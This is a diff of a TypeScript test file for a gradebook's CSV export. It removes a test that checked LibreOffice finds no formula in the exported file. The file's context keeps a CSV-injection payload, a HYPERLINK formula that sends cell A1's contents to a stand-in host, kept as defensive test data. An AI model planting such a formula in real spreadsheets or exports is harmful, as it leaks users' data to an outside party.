@@ -6,7 +6,6 @@ import type { Page } from '../../src/common/page.js';
 import type { MemberView } from '../../src/courses/courses.dto.js';
 import type { GradebookRow } from '../../src/gradebook/gradebook.dto.js';
 import { begin, classroom, type Classroom, ITEM, truth } from '../support/course.js';
-import { asSpreadsheet, findOffice } from '../support/office.js';
 import { api, type Api, testService, type TestService } from '../support/service.js';
 
 const EVIL = '=HYPERLINK("http://a.example/?x="&A1,"Open")';
@@ -121,19 +120,6 @@ describe('the CSV of a gradebook', () => {
       expect((await api(service.url).get(`${path}/${route}`)).status).toBe(401);
     }
   });
-
-  it('holds no formula for LibreOffice, also when it is saved and opened again', async () => {
-    const office = await findOffice();
-    if (!office) {
-      process.stderr.write('LibreOffice is not installed: what it makes of the CSV was not looked at.\n');
-      expect(office).toBeNull();
-      return;
-    }
-    const sheet = await asSpreadsheet(office, (await file('plain')).text);
-    expect(sheet).toContain('A student');
-    expect(sheet).not.toContain('table:formula');
-    expect(sheet).toMatch(/office:value-type="float" office:value="10"/);
-  }, 300_000);
 });
 
 describe('the gradebook', () => {
